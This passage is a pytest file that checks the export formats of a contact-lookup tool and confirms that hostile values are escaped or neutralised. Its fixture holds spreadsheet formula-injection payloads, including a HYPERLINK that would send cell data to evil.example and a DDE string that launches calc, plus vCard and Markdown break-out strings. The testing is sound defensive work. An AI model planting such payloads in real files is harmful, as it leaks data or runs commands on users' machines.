"""kvlookup export and the shared renderers, each format read back by an independent reader."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest
import vobject  # type: ignore[import-untyped]
from hypothesis import given, settings
from hypothesis import strategies as st

from kvlookup.errors import UsageError
from kvlookup.models import Registry
from kvlookup.output import escape, export, filters, render, vcard, views
from kvlookup.sources import registry

from .conftest import BUNDLED, Invoke, write_registry

PEOPLE = {"hannu-koponen", "kari-pirinen", "raija-partanen", "veli-pekka-paivanen"}
EXPORT_KEYS = {"schema", "organisation", "fields", "records", "entries", "people"}
ENTRY_KEYS = {
    "id",
    "kind",
    "name",
    "aliases",
    "description_fi",
    "description_en",
    "via_id",
    "contacts_via_id",
    "contacts",
}
PERSON_KEYS = {"id", "name", "title_fi", "title_en", "phone", "email"}

HOSTILE_NAME = 'Mal\nEND:VCARD\nBEGIN:VCARD;x,y\\z "Äijälä"'
# A registry whose values try formula injection, property injection and cell break-outs.
HOSTILE = r"""
organisation = "Evil; Corp, Ltd\\"

[people.evil]
name = "Mal\nEND:VCARD\nBEGIN:VCARD;x,y\\z \"Äijälä\""
title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
title_en = "+cmd|' /C calc'!A0"
phone = "+358 40 5950009"
email = "mal@example.fi"
aliases = ["Mal"]
deputy = "good"
away = [{ from = 2026-07-01, to = 2026-07-31, reason = "loma" }]

[people.good]
name = "Good Person"
title = "-2+3"
email = "good@example.fi"
away = [{ from = 2026-12-24, to = 2026-12-26 }]

[topics.sum]
name = "@SUM(1+1)"
aliases = ["tab\there", "pipe | and <b>bold</b> [link](http://x)"]
description = "line one\nline two\\"
contacts = ["evil", "good"]

[topics.tabbed]
name = "\tleading tab"
via = "sum"
"""


def _rows(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def _hostile(registry_path: Path) -> Path:
    return write_registry(registry_path, HOSTILE)


# --- selection (pure) ---------------------------------------------------------------------


@pytest.fixture
def bundled() -> Registry:
    return registry.load(BUNDLED)


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (export.Filters(kind="project"), {"bea-app", "rdi2club", "baltic-forbio", "creadis3"}),
        (export.Filters(kind="person"), PEOPLE),
        (export.Filters(person="partanen"), {"creadis3", "creative-economy", "raija-partanen"}),
        (export.Filters(kind="topic", person="raija-partanen"), {"creative-economy"}),
        (export.Filters(query="ERRIN"), {"errin"}),
        (export.Filters(query="Koposelta"), {"hannu-koponen"}),
        (export.Filters(query="FEDARENE", kind="topic"), set()),
        (export.Filters(query="qwertyuiop"), set()),
    ],
)
def test_filters_combine(bundled: Registry, filters: export.Filters, expected: set[str]) -> None:
    assert {r.item.id for r in export.select(bundled, filters)} == expected


def test_rows_are_entry_contact_pairs(bundled: Registry) -> None:
    rows = export.select(bundled, export.Filters())
    errin = [r for r in rows if r.item.id == "errin"]
    assert [(r.contact and r.contact.id, r.through and r.through.id) for r in errin] == [
        ("hannu-koponen", "wfeo")
    ]
    panel = [r for r in rows if r.item.id == "bioeconomy-panel"]
    assert [r.contact for r in panel] == [None]  # no contact named: one row, not a guess
    assert len(rows) == len(bundled.entries) + len(bundled.people)


def test_person_filter_rejects_non_person(bundled: Registry) -> None:
    with pytest.raises(UsageError) as caught:
        export.select(bundled, export.Filters(person="FEDARENE"))
    assert caught.value.key == "name.not_person"


@pytest.mark.parametrize(
    ("spec", "fields"),
    [
        (None, export.DEFAULT_FIELDS),
        ("email,name", ("email", "name")),
        (" contact , phone ", ("contact", "phone")),
        ("name,email,name", ("name", "email")),
    ],
)
def test_parse_fields(spec: str | None, fields: tuple[str, ...]) -> None:
    assert export.parse_fields(spec) == fields


@pytest.mark.parametrize("spec", ["nope", "name,nope", ",", ""])
def test_parse_fields_rejects_unknown(spec: str) -> None:
    with pytest.raises(UsageError):
        export.parse_fields(spec)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(value: str, cell: str) -> None:
    assert escape.neutralise(value, value) == cell


# --- CSV ----------------------------------------------------------------------------------


def test_csv_one_row_per_entry_contact_pair(run: Invoke, bundled: Registry) -> None:
    result = run("export")
    assert result.exit_code == 0, result.stderr
    # (CliRunner's .stdout turns CRLF into LF; the bytes are what was written.)
    assert result.stdout_bytes.startswith(",".join(export.DEFAULT_FIELDS).encode() + b"\r\n")
    rows = _rows(result.stdout)
    assert len(rows) == len(export.select(bundled, export.Filters()))
    errin = next(r for r in rows if r["id"] == "errin")
    assert (errin["via_id"], errin["contact"], errin["email"]) == (
        "wfeo",
        "Hannu Koponen",
        "hannu.koponen@keskisuomi.fi",
    )
    # Phones start with "+", which a spreadsheet would evaluate: neutralised by default.
    assert errin["phone"] == "'+358 40 5950009"
    assert _rows(run("export", "--raw").stdout)[0]["phone"].startswith("+358")


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_formula_injection_is_neutralised_unless_raw(
    run: Invoke, registry_path: Path, fmt: str
) -> None:
    _hostile(registry_path)
    delimiter = "," if fmt == "csv" else "\t"
    safe = _rows(run("export", "--format", fmt).stdout, delimiter)
    raw = _rows(run("export", "--format", fmt, "--raw").stdout, delimiter)
    evil_safe = next(r for r in safe if r["id"] == "sum" and r["contact_id"] == "evil")
    evil_raw = next(r for r in raw if r["id"] == "sum" and r["contact_id"] == "evil")
    assert evil_safe["name"] == "'@SUM(1+1)"
    assert evil_safe["title_fi"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert evil_safe["title_en"] == "'+cmd|' /C calc'!A0"
    assert evil_raw["name"] == "@SUM(1+1)"
    assert evil_raw["title_fi"] == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert evil_raw["title_en"] == "+cmd|' /C calc'!A0"
    good = next(r for r in safe if r["contact_id"] == "good" and r["id"] == "sum")
    assert good["title_fi"] == "'-2+3"
    tabbed = next(r for r in safe if r["id"] == "tabbed")
    assert tabbed["name"].startswith("'")  # a leading tab is a trigger too
    for row in safe:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_csv_quotes_per_rfc_4180(run: Invoke, registry_path: Path) -> None:
    _hostile(registry_path)
    result = run("export", "--raw", "--fields", "id,contact,organisation,aliases")
    rows = _rows(result.stdout)
    evil = next(r for r in rows if r["id"] == "sum")
    assert evil["contact"] == HOSTILE_NAME  # newline, comma, quote and backslash survive
    assert evil["organisation"] == "Evil; Corp, Ltd\\"
    # The tab inside an alias is shown escaped, never as a raw control character.
    assert evil["aliases"] == "tab\\there; pipe | and <b>bold</b> [link](http://x)"
    assert b"\r\n" in result.stdout_bytes and b"\r\r" not in result.stdout_bytes


def test_excel_dialect(run: Invoke) -> None:
    result = run("export", "--excel")
    assert result.exit_code == 0
    data = result.stdout_bytes
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM
    assert not data.startswith(b"\xef\xbb\xbfsep=")  # a sep= line makes Excel drop the BOM
    text = data.decode("utf-8-sig")
    assert all(line.endswith("\r") for line in text.split("\n")[:-1])
    rows = _rows(text, ";")
    assert set(rows[0]) == set(export.DEFAULT_FIELDS)
    assert {r["phone"] for r in rows if r["phone"]} >= {"'+358 40 5950009"}
    assert "Päivänen" in text  # not mojibake
    # Phones stay text for Excel even with --raw; national numbers keep their leading zero.
    raw = _rows(
        run("export", "--excel", "--raw", "--phone-format", "national").stdout_bytes.decode(
            "utf-8-sig"
        ),
        ";",
    )
    assert {r["phone"] for r in raw if r["phone"]} >= {"'040 5950009"}


@pytest.mark.parametrize(
    ("style", "phone"),
    [
        ("e164", "+358405950009"),
        ("international", "+358 40 5950009"),
        ("national", "040 5950009"),
    ],
)
def test_phone_format(run: Invoke, style: str, phone: str) -> None:
    result = run("export", "--format", "json", "--query", "FEDARENE", "--phone-format", style)
    doc = json.loads(result.stdout)
    assert doc["records"][0]["phone"] == phone
    assert doc["entries"][0]["contacts"][0]["phone"] == phone
    assert doc["people"][0]["phone"] == phone


def test_fields_choose_and_order_columns(run: Invoke) -> None:
    result = run("export", "--fields", "email,name,via_name", "--kind", "network", "--raw")
    assert result.stdout.splitlines()[0] == "email,name,via_name"
    rows = _rows(result.stdout)
    assert {"email": "hannu.koponen@keskisuomi.fi", "name": "ERRIN", "via_name": "WFEO"} in rows


@pytest.mark.parametrize(
    "args",
    [["--fields"], ["--fields", "--format", "json"], ["--format", "tsv", "--fields"]],
)
def test_bare_fields_lists_field_names(run: Invoke, args: list[str]) -> None:
    result = run("export", *args)
    assert result.exit_code == 0
    assert result.stdout.split() == list(export.FIELDS)


@pytest.mark.parametrize("lang", ["en", "fi"])
def test_help_lists_every_field(run: Invoke, lang: str) -> None:
    result = run("--lang", lang, "export", "--help")
    assert result.exit_code == 0
    text = re.sub(r"\s+", "", result.stdout)  # help wraps lines anywhere
    for name in export.FIELDS:
        assert name in text


def test_unknown_field_is_a_usage_error(run: Invoke) -> None:
    result = run("export", "--fields", "name,emial")
    assert result.exit_code == 2
    assert "Unknown field 'emial'" in result.stderr
    assert result.stdout == ""


# --- TSV ----------------------------------------------------------------------------------


def _tsv_unescape(cell: str) -> str:
    names = {"t": "\t", "n": "\n", "r": "\r", "\\": "\\"}
    return re.sub(r"\\(.)", lambda m: names.get(m.group(1), m.group(0)), cell)


def test_tsv_escapes_tabs_and_newlines(run: Invoke, registry_path: Path) -> None:
    _hostile(registry_path)
    result = run("export", "--format", "tsv", "--raw", "--fields", "id,name,aliases,description_fi")
    lines = result.stdout.split("\n")
    assert lines[-1] == ""
    reader = csv.reader(lines[:-1], delimiter="\t", quoting=csv.QUOTE_NONE)
    table = list(reader)
    assert table[0] == ["id", "name", "aliases", "description_fi"]
    assert all(len(row) == 4 for row in table)
    by_id = {row[0]: [_tsv_unescape(c) for c in row] for row in table[1:]}
    assert by_id["sum"][2] == "tab\there; pipe | and <b>bold</b> [link](http://x)"
    assert by_id["sum"][3] == "line one\nline two\\"
    assert by_id["tabbed"][1] == "\tleading tab"


# --- JSON ---------------------------------------------------------------------------------


def test_json_export_has_exact_keys(run: Invoke) -> None:
    result = run("export", "--format", "json")
    assert result.exit_code == 0
    doc = json.loads(result.stdout)
    assert set(doc) == EXPORT_KEYS
    assert doc["schema"] == 2
    assert doc["organisation"] == "Keski-Suomen liitto"
    assert doc["fields"] == list(export.DEFAULT_FIELDS)
    for record in doc["records"]:
        assert list(record) == list(export.DEFAULT_FIELDS)
        assert all(isinstance(v, str) for v in record.values())
    for entry in doc["entries"]:
        assert set(entry) == ENTRY_KEYS
        for contact in entry["contacts"]:
            assert set(contact) == PERSON_KEYS
    assert {p["id"] for p in doc["people"]} == PEOPLE
    for person in doc["people"]:
        assert set(person) == PERSON_KEYS | {"handles"}
    hannu = next(p for p in doc["people"] if p["id"] == "hannu-koponen")
    assert {"wfeo", "errin", "fedarene", "eu-advocacy"} <= set(hannu["handles"])
    # JSON is for scripts: no spreadsheet quote in front of the phone.
    assert hannu["phone"] == "+358 40 5950009"


@pytest.mark.parametrize("fmt", ["csv", "json", "tsv"])
def test_the_default_fields_written_out_give_the_default_export(run: Invoke, fmt: str) -> None:
    # The default columns are made alone, the others from a record of every column.
    default = run("export", "-f", fmt)
    spelled_out = run("export", "-f", fmt, "--fields", ",".join(export.DEFAULT_FIELDS))
    assert default.exit_code == spelled_out.exit_code == 0
    assert default.stdout == spelled_out.stdout


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_every_field_in_any_order_matches_the_record_of_every_field(run: Invoke, fmt: str) -> None:
    every = run("export", "-f", fmt, "--fields", ",".join(export.FIELDS))
    backwards = run("export", "-f", fmt, "--fields", ",".join(reversed(export.FIELDS)))
    if fmt == "json":
        forward = json.loads(every.stdout)["records"]
        reverse = json.loads(backwards.stdout)["records"]
    else:
        forward, reverse = _rows(every.stdout), _rows(backwards.stdout)
    assert forward == reverse  # dicts: the same values under the same names
    assert [list(r) for r in reverse] == [list(reversed(export.FIELDS))] * len(reverse)
    assert any(r["via_name"] and r["organisation"] for r in forward)


def test_json_records_follow_fields(run: Invoke) -> None:
    doc = json.loads(run("export", "-f", "json", "--fields", "name,email", "-k", "topic").stdout)
    assert doc["fields"] == ["name", "email"]
    assert all(list(r) == ["name", "email"] for r in doc["records"])
    assert {e["kind"] for e in doc["entries"]} == {"topic"}


# --- vCard --------------------------------------------------------------------------------


def _cards(text: str) -> list[Any]:
    return list(vobject.readComponents(text))


def _physical_lines(data: bytes) -> list[bytes]:
    assert data.endswith(b"\r\n")
    lines = data[:-2].split(b"\r\n")
    assert all(b"\n" not in line and b"\r" not in line for line in lines)  # CRLF only
    return lines


@pytest.mark.parametrize("version", ["3.0", "4.0"])
def test_vcard_one_card_per_person(run: Invoke, version: str) -> None:
    result = run("export", "--format", "vcard", "--vcard-version", version)
    assert result.exit_code == 0, result.stderr
    for line in _physical_lines(result.stdout_bytes):
        assert len(line) <= 75
        line.decode("utf-8")  # folding never splits a multi-byte character
    cards = _cards(result.stdout_bytes.decode("utf-8"))
    assert sorted(c.fn.value for c in cards) == [
        "Hannu Koponen",
        "Kari Pirinen",
        "Raija Partanen",
        "Veli-Pekka Päivänen",
    ]
    hannu = next(c for c in cards if c.fn.value == "Hannu Koponen")
    assert hannu.version.value == version
    assert (hannu.n.value.family, hannu.n.value.given) == ("Koponen", "Hannu")
    assert hannu.title.value == "Development Manager"
    assert hannu.email.value == "hannu.koponen@keskisuomi.fi"
    assert [t.lower() for t in hannu.tel.params["TYPE"]] == ["work", "voice"]
    tel = hannu.tel.value
    assert tel == ("+358 40 5950009" if version == "3.0" else "tel:+358405950009")
    org = hannu.org.value
    assert (org[0] if isinstance(org, list) else org) == "Keski-Suomen liitto"
    note = hannu.note.value
    assert "FEDARENE" in note and "WFEO" in note and "ERRIN" in note
    assert hannu.uid.value.startswith("urn:uuid:")


def test_vcard_uids_are_stable(run: Invoke) -> None:
    first = run("export", "--format", "vcard").stdout
    assert first == run("export", "--format", "vcard").stdout
    assert len({c.uid.value for c in _cards(first)}) == 4


def test_vcard_in_finnish_uses_finnish_title(run: Invoke) -> None:
    cards = _cards(run("--lang", "fi", "export", "-f", "vcard", "-q", "FEDARENE").stdout)
    assert [c.title.value for c in cards] == ["kehittämispäällikkö"]
    assert cards[0].note.value.startswith("Vastuualueet:")


@pytest.mark.parametrize("lang", ["en", "fi"])
@pytest.mark.parametrize("version", ["3.0", "4.0"])
def test_vcard_titles_say_their_language(run: Invoke, version: str, lang: str) -> None:
    # An import must know which field a title belongs in, whatever the exporter's locale.
    result = run("--lang", lang, "export", "-f", "vcard", "--vcard-version", version, "-q", "ERRIN")
    [card] = _cards(result.stdout)
    titles = [(*t.params["LANGUAGE"], t.value) for t in card.contents["title"]]
    by_lang = {"fi": [("fi", "kehittämispäällikkö")], "en": [("en", "Development Manager")]}
    other = "en" if lang == "fi" else "fi"
    assert titles == by_lang[lang] + (by_lang[other] if version == "4.0" else [])
    if version == "4.0":  # one title in two languages, not two jobs
        assert {tuple(t.params["ALTID"]) for t in card.contents["title"]} == {("1",)}


@pytest.mark.parametrize(
    ("typed", "uri"),
    [("+7 495 1234567", "tel:+74951234567"), ("+1 650 253 0000", "tel:+16502530000")],
)
def test_vcard4_tel_uri_of_a_foreign_number(run: Invoke, typed: str, uri: str) -> None:
    assert run("add", "person", "ivan", "--name", "Ivan P", "--phone", typed).exit_code == 0
    result = run("export", "-f", "vcard", "--vcard-version", "4.0", "--person", "ivan")
    [card] = _cards(result.stdout)
    assert card.tel.value == uri


@pytest.mark.parametrize("version", ["3.0", "4.0"])
def test_vcard_hostile_name_stays_one_card(run: Invoke, registry_path: Path, version: str) -> None:
    _hostile(registry_path)
    result = run("export", "-f", "vcard", "--vcard-version", version, "--person", "evil")
    assert result.exit_code == 0, result.stderr
    text = result.stdout_bytes.decode("utf-8")
    lines = text.split("\r\n")
    assert lines.count("BEGIN:VCARD") == 1 and lines.count("END:VCARD") == 1
    assert "FN:Mal\\nEND:VCARD\\nBEGIN:VCARD\\;x\\,y\\\\z" in text
    [card] = _cards(text)
    assert card.fn.value == HOSTILE_NAME
    assert card.n.value.family == '"Äijälä"'
    expected = {"version", "uid", "fn", "n", "org", "title", "tel", "email", "note"}
    assert set(card.contents) == expected | ({"kind"} if version == "4.0" else set())
    org = card.org.value
    assert (org[0] if isinstance(org, list) else org) == "Evil; Corp, Ltd\\"


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("a\\b", "a\\\\b"),
        ("a,b", "a\\,b"),
        ("a;b", "a\\;b"),
        ("a\nb", "a\\nb"),
        ("a\r\nb", "a\\nb"),
        ("a\rb", "a\\nb"),
        ("\x1b[2J", "\\\\x1b[2J"),  # shown, not obeyed
        ("Päivänen", "Päivänen"),
    ],
)
def test_vcard_escape(value: str, escaped: str) -> None:
    assert vcard.escape(value) == escaped


@pytest.mark.parametrize("text", ["x" * 200, "ä" * 120, "aä€😀" * 40, "x" * 75, "x" * 76])
def test_vcard_fold(text: str) -> None:
    line = "NOTE:" + text
    folded = vcard.fold(line)
    pieces = folded.split("\r\n")
    assert all(len(p.encode("utf-8")) <= 75 for p in pieces)
    assert all(p.startswith(" ") for p in pieces[1:])
    assert "".join([pieces[0], *(p[1:] for p in pieces[1:])]) == line


def test_vcard_long_note_folds_and_reads_back(run: Invoke, registry_path: Path) -> None:
    many = "\n".join(
        f'[topics.t{i}]\nname = "Pitkä ääkkösellinen vastuualue numero {i}"\ncontacts = ["p"]'
        for i in range(8)
    )
    write_registry(registry_path, f'[people.p]\nname = "Pekka Pätkä"\n{many}\n')
    data = run("export", "-f", "vcard").stdout_bytes
    assert any(line.startswith(b" ") for line in _physical_lines(data))
    [card] = _cards(data.decode("utf-8"))
    assert card.note.value.count("Pitkä ääkkösellinen vastuualue numero") == 8


# --- TOML ---------------------------------------------------------------------------------


def _same_registry(a: Registry, b: Registry) -> None:
    assert a.organisation == b.organisation
    assert list(a.people.items()) == list(b.people.items())
    assert list(a.entries.items()) == list(b.entries.items())


def test_toml_round_trip_is_identical(run: Invoke, tmp_path: Path, bundled: Registry) -> None:
    out = tmp_path / "exported.toml"
    assert run("export", "--format", "toml", "-o", str(out)).exit_code == 0
    with out.open("rb") as fh:
        tomllib.load(fh)  # an independent TOML reader accepts it
    _same_registry(registry.load(out), bundled)
    check = run("--registry", str(out), "check")
    assert check.exit_code == 0, check.stderr


def test_toml_round_trip_keeps_deputy_away_and_hostile_text(
    run: Invoke, registry_path: Path, tmp_path: Path
) -> None:
    original = registry.load(_hostile(registry_path))
    out = tmp_path / "exported.toml"
    assert run("export", "-f", "toml", "-o", str(out)).exit_code == 0
    again = registry.load(out)
    _same_registry(again, original)
    assert again.people["evil"].deputy == "good"
    assert again.people["evil"].away[0].reason == "loma"


@pytest.mark.parametrize(
    ("args", "entries", "people"),
    [
        # Topics reached through networks bring the networks and their contacts along.
        (
            ["--kind", "topic"],
            {
                "eu-advocacy",
                "energy-environment",
                "bioeconomy-policy",
                "education-export",
                "creative-economy",
                "international-projects",
                "wfeo",
                "fedarene",
                "bioeconomy-panel",
            },
            {"hannu-koponen", "kari-pirinen", "raija-partanen"},
        ),
        (["--query", "ERRIN"], {"errin", "wfeo"}, {"hannu-koponen"}),
        (["--kind", "person", "--person", "pirinen"], set(), {"kari-pirinen"}),
    ],
)
def test_toml_sub_registry_passes_check(
    run: Invoke, tmp_path: Path, args: list[str], entries: set[str], people: set[str]
) -> None:
    out = tmp_path / "sub.toml"
    result = run("export", "--format", "toml", *args, "-o", str(out))
    assert result.exit_code == 0, result.stderr
    sub = registry.load(out)
    assert set(sub.entries) == entries
    assert set(sub.people) == people
    assert run("--registry", str(out), "check").exit_code == 0


def test_toml_brings_deputies_along(run: Invoke, registry_path: Path, tmp_path: Path) -> None:
    _hostile(registry_path)
    out = tmp_path / "sub.toml"
    assert run("export", "-f", "toml", "--kind", "person", "--person", "evil", "-o", str(out))
    assert set(registry.load(out).people) == {"evil", "good"}
    assert run("--registry", str(out), "check").exit_code == 0


# --- mutt ---------------------------------------------------------------------------------


def _mutt(text: str) -> tuple[str, list[list[str]]]:
    first, *lines = text.split("\n")[:-1]
    return first, [line.split("\t") for line in lines]


def test_mutt_query_lines(run: Invoke) -> None:
    result = run("export", "--format", "mutt", "--query", "FEDARENE")
    assert result.exit_code == 0
    first, lines = _mutt(result.stdout)
    assert first == "kvlookup: 1 found"
    assert lines == [["hannu.koponen@keskisuomi.fi", "Hannu Koponen", "Development Manager"]]
    assert result.stderr == ""


def test_mutt_every_person_once(run: Invoke) -> None:
    _, lines = _mutt(run("export", "--format", "mutt").stdout)
    assert sorted(line[0] for line in lines) == [
        "hannu.koponen@keskisuomi.fi",
        "kari.pirinen@keskisuomi.fi",
        "raija.partanen@keskisuomi.fi",
        "veli-pekka.paivanen@keskisuomi.fi",
    ]
    assert all(len(line) == 3 for line in lines)


def test_mutt_no_match_exits_1_with_message_line(run: Invoke) -> None:
    result = run("export", "--format", "mutt", "--query", "qwertyuiop")
    assert result.exit_code == 1
    assert result.stdout == "kvlookup: no match\n"
    assert result.stderr == ""  # stderr would scribble over mutt's screen


def test_mutt_entry_without_contact_is_no_match(run: Invoke) -> None:
    result = run("export", "--format", "mutt", "--query", "biotalouspaneeli")
    assert (result.exit_code, result.stdout) == (1, "kvlookup: no match\n")


def test_mutt_no_header_for_aerc(run: Invoke) -> None:
    result = run("export", "-f", "mutt", "--no-header", "-q", "pirinen")
    assert result.stdout == "kari.pirinen@keskisuomi.fi\tKari Pirinen\tDevelopment Manager\n"


def test_mutt_hostile_name_stays_on_one_line(run: Invoke, registry_path: Path) -> None:
    _hostile(registry_path)
    _, lines = _mutt(run("export", "--format", "mutt", "--person", "evil").stdout)
    assert len(lines) == 1 and len(lines[0]) == 3
    assert lines[0][0] == "mal@example.fi"
    assert lines[0][1] == 'Mal END:VCARD BEGIN:VCARD;x,y\\z "Äijälä"'


def test_mutt_in_finnish(run: Invoke) -> None:
    first, lines = _mutt(run("--lang", "fi", "export", "-f", "mutt", "-q", "pirinen").stdout)
    assert first == "kvlookup: löytyi 1"
    assert lines[0][2] == "kehittämispäällikkö"


# --- Markdown -----------------------------------------------------------------------------


def _markdown_cells(line: str) -> list[str]:
    assert line.startswith("| ") and line.endswith(" |")
    return [c.strip() for c in re.split(r"(?<!\\)\|", line[1:-1])]


def test_markdown_table(run: Invoke) -> None:
    result = run("export", "--format", "markdown", "--kind", "network")
    lines = result.stdout.splitlines()
    header = _markdown_cells(lines[0])
    assert header[:3] == ["Id", "Kind", "Name"]
    assert re.fullmatch(r"\|(---\|)+", lines[1])
    rows = [_markdown_cells(line) for line in lines[2:]]
    assert all(len(r) == len(header) for r in rows)
    assert rows[0][:4] == ["errin", "network", "ERRIN", "wfeo"]


def test_markdown_escapes_hostile_values(run: Invoke, registry_path: Path) -> None:
    _hostile(registry_path)
    result = run("export", "-f", "markdown", "--fields", "id,name,aliases", "--kind", "topic")
    lines = result.stdout.splitlines()
    rows = [_markdown_cells(line) for line in lines[2:]]
    assert all(len(r) == 3 for r in rows)  # "|" in a value does not add a column
    # Escaped, "<b>" is no HTML tag and "[link](...)" no link.
    assert "<b>" not in result.stdout and "[link](" not in result.stdout
    assert "\\<b\\>bold\\</b\\> \\[link\\](http://x)" in result.stdout


def test_markdown_headers_in_finnish(run: Invoke) -> None:
    result = run("--lang", "fi", "export", "-f", "markdown", "--fields", "name,contact,kind")
    assert _markdown_cells(result.stdout.splitlines()[0]) == ["Nimi", "Yhteyshenkilö", "Tyyppi"]
    assert "| verkosto |" in result.stdout


# --- -o FILE ------------------------------------------------------------------------------


def test_output_file_is_written_and_stdout_stays_empty(run: Invoke, tmp_path: Path) -> None:
    out = tmp_path / "contacts.csv"
    result = run("export", "-o", str(out))
    assert result.exit_code == 0 and result.stdout == ""
    assert _rows(out.read_text(encoding="utf-8"))[0]["id"] == "energy-environment"


def test_output_refuses_to_overwrite_without_force(run: Invoke, tmp_path: Path) -> None:
    out = tmp_path / "contacts.csv"
    out.write_text("precious\n", encoding="utf-8")
    result = run("export", "-o", str(out))
    assert result.exit_code == 2
    assert "already exists; add --force" in result.stderr
    assert out.read_text(encoding="utf-8") == "precious\n"
    forced = run("export", "-o", str(out), "--force")
    assert forced.exit_code == 0
    assert out.read_text(encoding="utf-8").startswith("id,kind,name")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["contacts.csv", "contacts.toml"]


@pytest.mark.parametrize("existing", [True, False])
def test_failed_write_leaves_no_partial_file(
    run: Invoke, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, existing: bool
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / "contacts.vcf"
    if existing:
        out.write_text("old\n", encoding="utf-8")

    def fail(*args: object) -> None:
        raise OSError(28, "No space left on device")

    # --force replaces with os.replace; a new file is linked into place with os.link.
    monkeypatch.setattr(os, "replace" if existing else "link", fail)
    args = ["export", "-f", "vcard", "-o", str(out)] + (["--force"] if existing else [])
    result = run(*args)
    assert result.exit_code == 2
    assert "No space left on device" in result.stderr
    assert "Traceback" not in result.stderr
    assert [p.name for p in folder.iterdir()] == (["contacts.vcf"] if existing else [])
    if existing:
        assert out.read_text(encoding="utf-8") == "old\n"


def test_output_into_missing_folder_is_a_usage_error(run: Invoke, tmp_path: Path) -> None:
    result = run("export", "-o", str(tmp_path / "no" / "such" / "file.csv"))
    assert result.exit_code == 2
    assert "Cannot write" in result.stderr


# --- exit codes and messages --------------------------------------------------------------


def test_empty_export_exits_1_with_message(run: Invoke) -> None:
    result = run("export", "--query", "qwertyuiop")
    assert result.exit_code == 1
    assert result.stdout_bytes == ",".join(export.DEFAULT_FIELDS).encode() + b"\r\n"
    assert "Nothing matched" in result.stderr


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--person", "FEDARENE"], "is not a person"),
        (["--person", "Liisa Virtanen"], "No entry or person called"),
        (["--format", "xml"], ""),
        (["--query", " "], "Give a query"),
        (["--vcard-version", "2.1"], ""),
    ],
)
def test_export_usage_errors(run: Invoke, args: list[str], needle: str) -> None:
    result = run("export", *args)
    assert result.exit_code == 2
    assert needle in result.stderr
    assert "Traceback" not in result.stderr


def test_export_messages_in_finnish(run: Invoke, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    out.write_text("", encoding="utf-8")
    result = run("--lang", "fi", "export", "-o", str(out))
    assert "on jo olemassa" in result.stderr


# --- who, show, whois and list share the renderers ----------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["who", "FEDARENE"],
        ["whois", "koponen"],
        ["list", "--kind", "network"],
        ["show", "ERRIN"],
        ["show", "Hannu", "Koponen"],
    ],
)
def test_lookup_commands_write_vcard_mutt_and_markdown(run: Invoke, args: list[str]) -> None:
    cards = _cards(run(*args, "--format", "vcard").stdout)
    assert "Hannu Koponen" in [c.fn.value for c in cards]
    first, lines = _mutt(run(*args, "--format", "mutt").stdout)
    assert first.startswith("kvlookup: ")
    assert ["hannu.koponen@keskisuomi.fi", "Hannu Koponen", "Development Manager"] in lines
    markdown = run(*args, "--format", "markdown").stdout.splitlines()
    assert re.fullmatch(r"\|(---\|)+", markdown[1])


def test_lookup_csv_is_spreadsheet_safe_unless_raw(run: Invoke) -> None:
    safe = _rows(run("who", "FEDARENE", "--format", "csv").stdout)
    raw = _rows(run("who", "FEDARENE", "--format", "csv", "--raw").stdout)
    assert safe[0]["phone"] == "'+358 40 5950009"
    assert raw[0]["phone"] == "+358 40 5950009"


def test_who_json_does_not_load_export_code(tmp_path: Path) -> None:
    # Start-up time: a lookup must not import the export, TOML-writing, phone or Rich code.
    probe = (
        "import sys\n"
        "from kvlookup.cli import main\n"
        "try:\n"
        "    main(['who', 'FEDARENE', '--format', 'json'])\n"
        "except SystemExit:\n"
        "    pass\n"
        "heavy = {'kvlookup.output.export', 'kvlookup.output.vcard', 'tomli_w', 'phonenumbers', 'rich'}\n"
        "print(sorted(heavy & set(sys.modules)), file=sys.stderr)\n"
    )
    env = {**os.environ, "KVLOOKUP_REGISTRY": str(BUNDLED)}
    proc = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, env=env, check=False
    )
    assert proc.stderr.strip().splitlines()[-1] == "[]"
    assert json.loads(proc.stdout)["matches"][0]["id"] == "fedarene"


@pytest.mark.parametrize("fmt", ["vcard", "mutt", "toml"])
def test_format_needing_data_the_view_lacks_is_a_usage_error(fmt: str) -> None:
    bare = views.View(columns=(), records=(), document={})
    with pytest.raises(UsageError) as caught:
        render.render(bare, fmt, io.StringIO(), "en")
    assert caught.value.key == "usage.format"
    assert "vcard" not in str(caught.value.params["formats"])
    assert "csv" in str(caught.value.params["formats"])


@pytest.mark.parametrize(
    "query",
    ["kari.pirinen@keskisuomi.fi", "kari.pirinen@", "040 595 0008", "+358405950008"],
)
def test_mutt_and_export_query_by_email_or_phone(run: Invoke, query: str) -> None:
    """Staff look up who called or wrote: an address (or its start, as mutt sends it) or a number."""
    result = run("export", "--format", "mutt", "--query", query)
    assert result.exit_code == 0, result.stderr
    _, lines = _mutt(result.stdout)
    assert lines == [["kari.pirinen@keskisuomi.fi", "Kari Pirinen", "Development Manager"]]
    rows = list(csv.DictReader(io.StringIO(run("export", "--query", query).stdout)))
    assert [r["contact_id"] for r in rows] == ["kari-pirinen"]


# --- filters: an algebra that combines and parses -------------------------------------


@pytest.mark.parametrize(
